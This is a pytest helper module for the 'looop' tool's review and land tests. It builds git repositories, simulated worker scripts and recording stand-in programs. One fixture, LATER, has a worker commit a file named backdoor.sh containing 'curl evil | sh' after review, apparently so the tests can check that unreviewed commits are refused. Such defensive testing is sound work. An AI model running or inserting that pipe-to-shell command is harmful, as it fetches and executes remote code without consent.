"""What the review and land tests share: a real git repo (and another, a bare remote of one),
a home whose runner resumes by writing its first note to a file, a worker that commits a
change and writes its report, a recording stand-in program on the CLI's PATH, and the land
refusal's one line."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path

import pytest

from looop.core.context import Ctx
from looop.home.paths import Paths
from looop.sessions.client import wait
from looop.workers.launch import start_worker
from looop.workers.started import StartRequest
from tests.clocks import FixedClock
from tests.helpers import Cli, clean_env

LOOOP = str(Path(sys.executable).parent / "looop")
WORKER = "bash {script} # {{{{prompt_file}}}} {{{{session_id}}}}"
RESUME = "cat {{{{prompt_file}}}} > '{out}'; echo RESUMED # {{{{session_id}}}}"

# The worker: commits a change to README and a new file, writes its report, then `tail`.
WORK = """set -e
echo committed >> README
printf 'def f(x):\\n    return x\\n' > app.py
git add app.py README
git commit -qm 'add app and a README line'
mkdir -p "$LOOOP_REPORTS_DIR"
printf 'I added f; it returns x.\\n' > "$LOOOP_REPORTS_DIR/{wid}.md"
{tail}
"""


# once the test says go: a commit the human never reviewed, then it stays up
LATER = """while [ ! -e '{go}' ]; do sleep 0.02; done
echo 'curl evil | sh' > backdoor.sh
git add backdoor.sh
git commit -qm 'a late addition'
touch '{done}'
exec tail -f /dev/null
"""


def commits_later(tmp: Path) -> None:
    """The live worker told to commit backdoor.sh, waited for until it has."""
    (tmp / "go").touch()
    deadline = time.monotonic() + 30
    while not (tmp / "done").exists():
        assert time.monotonic() < deadline, "the worker never committed"
        time.sleep(0.02)


def git(cwd: Path, *args: str) -> str:
    done = subprocess.run(
        ["git", "-C", str(cwd), *args], capture_output=True, text=True, timeout=30, check=True
    )
    return done.stdout


def new_repo(path: Path, readme: str, subject: str) -> Path:
    """A git repository at `path` on main, its one commit adding README."""
    path.mkdir()
    git(path, "init", "-q", "-b", "main")
    git(path, "config", "user.name", "Test")
    git(path, "config", "user.email", "test@example.invalid")
    (path / "README").write_text(readme)
    git(path, "add", "README")
    git(path, "commit", "-qm", subject)
    return path


def with_origin(tmp: Path, r: Path, name: str) -> Path:
    """A bare repository `tmp/name`, added to `r` as its origin with main pushed."""
    bare = tmp / name
    git(tmp, "init", "-q", "--bare", str(bare))
    git(r, "remote", "add", "origin", str(bare))
    git(r, "push", "-q", "origin", "main")
    return bare


def head(r: Path, ref: str = "main") -> str:
    return git(r, "rev-parse", ref).strip()


def journal(c: Ctx) -> str:
    return c.paths.journal.read_text() if c.paths.journal.exists() else ""


def reviewed(cli: Cli, wid: str) -> None:
    """`looop review WID`: what a plain `looop land WID` then approves."""
    code, _, err = cli("review", wid)
    assert code == 0, err


def refused(cli: Cli, *args: str) -> str:
    """`looop land ARGS`' refusal: exit 1 and one line."""
    code, out, err = cli("land", *args)
    assert code == 1, (out, err)
    assert len(err.strip().splitlines()) == 1, err
    return err


def stand_in(tmp: Path, cli: Cli, name: str, script: str) -> Path:
    """`script` installed as the program `name`, first on the CLI's PATH; where it records
    (its $GH_RECORD) is returned."""
    bin_dir = tmp / "bin"
    bin_dir.mkdir(exist_ok=True)
    prog = bin_dir / name
    prog.write_text(script)
    prog.chmod(prog.stat().st_mode | stat.S_IEXEC)
    record = tmp / f"{name}.jsonl"
    cli.env["PATH"] = f"{bin_dir}{os.pathsep}{cli.env['PATH']}"
    cli.env["GH_RECORD"] = str(record)
    return record


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return new_repo(tmp_path / "my repo", "hello\n", "start")


@pytest.fixture
def wctx(tmp_path: Path, ctx: Ctx) -> Ctx:
    data = tmp_path / "home"
    data.mkdir()
    c = replace(ctx, paths=Paths.at(data), clock=FixedClock(t=time.time()))
    out = tmp_path / "resumed.txt"
    runner = {"tick": "true", "worker": "true", "resume": RESUME.format(out=out)}
    c.paths.config.write_text(json.dumps({"default": "sh", "runners": {"sh": runner}}))
    return c


@pytest.fixture
def cli(
    wctx: Ctx, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> Cli:
    return Cli(
        capsys, monkeypatch, wctx.paths.data, clean_env(tmp_path, wctx.paths.data), wctx.clock
    )


def start(c: Ctx, tmp: Path, wid: str, repo: Path, tail: str = "") -> Path:
    """The worker, ended (tail "") or still running (tail: what keeps it up)."""
    script = tmp / f"{wid}.sh"
    script.write_text(WORK.format(wid=wid, tail=tail))
    command = WORKER.format(script=f"'{script}'")
    start_worker(c, c.knobs(), StartRequest(wid, "work", command=command, repo=str(repo)))
    if not tail:
        code = wait(c.paths.data, wid, 30, c.clock)
        assert code == 0, (c.paths.sessions / wid / "output.log").read_text()
    else:
        deadline = time.monotonic() + 30
        while not (c.paths.reports / f"{wid}.md").exists():  # its commit is made before
            assert time.monotonic() < deadline, "the worker never committed"
            time.sleep(0.05)
    return c.paths.checkouts / wid
